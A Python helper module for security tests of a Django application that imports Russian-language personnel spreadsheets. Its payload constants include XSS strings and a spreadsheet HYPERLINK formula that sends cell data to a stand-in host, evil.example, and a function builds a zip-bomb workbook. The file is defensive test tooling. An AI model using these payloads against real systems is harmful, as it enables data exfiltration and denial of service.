"""Payloads and hostile files shared by the security test modules (``tests/<area>/test_security.py``).

A new area imports these and tries each text field with :data:`PAYLOADS`,
each file input with :func:`hostile_workbooks` and each id with :data:`ODD_IDS`.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

XSS = "<script>alert(1)</script>"
SCRIPT_BREAK = "</script><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
LONG = "Я" * 100_000
PAYLOADS = (XSS, SCRIPT_BREAK, FORMULA, "@SUM(1+1)", "+7(999)", "-1+2", LONG)
ODD_IDS = ("0", "99999999999999999999999", "²", "-1", "1e9", "%00")


def run_zorko(data_dir: Path, *args: str, timeout: float = 120,
              memory_mb: int | None = None) -> subprocess.CompletedProcess[str]:
    """``zorko ARGS`` as a real process with its own data directory (and an optional memory cap)."""
    env = {**os.environ, "ZORKO_DATA_DIR": str(data_dir)}
    env.pop("ZORKO_DATABASE_URL", None)
    preexec = None
    if memory_mb:
        def preexec() -> None:
            import resource

            limit = memory_mb * 1024 * 1024
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    return subprocess.run([sys.executable, "-m", "zorko", *args], env=env, capture_output=True,
                          text=True, timeout=timeout, preexec_fn=preexec)


def _workbook(path: Path, cells: dict[str, object]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["табельный_номер", "фамилия", "имя", "отчество", "дата_рождения", "организация"])
    sheet.append(["1001", "Иванов", "Иван", "Иванович", "01.02.1980", "Администрация"])
    for ref, value in cells.items():
        sheet[ref] = value
    book.save(path)
    return path


def zip_bomb(path: Path, unpacked_mb: int = 400) -> Path:
    """A valid small XLSX plus a part that unpacks to ``unpacked_mb`` MB of zeros."""
    _workbook(path, {})
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as book:
        with book.open("xl/media/padding.xml", "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(unpacked_mb):
                part.write(chunk)
    return path


def hostile_workbooks(folder: Path) -> Iterator[tuple[Path, str]]:
    """Workbooks an import must refuse, each with a fragment of the expected message."""
    yield _workbook(folder / "far-cell.xlsx", {"XFD1048576": "x"}), "ячейки XFD1048576"
    yield _workbook(folder / "many-rows.xlsx", {"A900000": "x"}), "(900000 строк"
    yield _workbook(folder / "formula.xlsx", {"B2": "=1+1"}), "ячейка B2 содержит формулу"
    yield _workbook(folder / "huge-cell.xlsx", {"C2": "Я" * 20_000}), "в ячейке C2 20000 символов"
    yield zip_bomb(folder / "zip-bomb.xlsx"), "слишком велика в распакованном виде"
    (folder / "not-a-book.xlsx").write_bytes(b"PK\x03\x04" + os.urandom(2000))
    yield folder / "not-a-book.xlsx", "файл повреждён"


def assert_shown_escaped(html: str, text: str = XSS) -> None:
    """The hostile text is on the page, as text: escaped, never as markup."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert text not in html and escaped in html


def routes() -> list[tuple[str, Any]]:
    """``(route, view)`` of every URL pattern outside the Django admin."""
    from django.urls import URLPattern, URLResolver, get_resolver

    def walk(patterns: list[Any], prefix: str) -> list[tuple[str, Any]]:
        out: list[tuple[str, Any]] = []
        for p in patterns:
            text = prefix + str(p.pattern)
            if isinstance(p, URLResolver):
                if not text.startswith("admin/"):
                    out += walk(p.url_patterns, text)
            elif isinstance(p, URLPattern):
                out.append((text, p.callback))
        return out

    return sorted(walk(get_resolver().url_patterns, ""), key=lambda r: r[0])


def fill_route(route: str, value: Callable[[str], str]) -> str:
    """The route as a URL, each parameter replaced by ``value(name)`` (formats by their first choice)."""
    route = route.lstrip("^").rstrip("$").replace("\\.", ".")
    route = re.sub(r"<(?:int|str):(\w+)>", lambda m: value(m.group(1)), route)
    route = re.sub(r"\(\?P<fmt>([a-z]+)\|[^)]*\)", r"\1", route)
    route = re.sub(r"\(\?P<(\w+)>\\d\+\)", lambda m: value(m.group(1)), route)
    return "/" + route
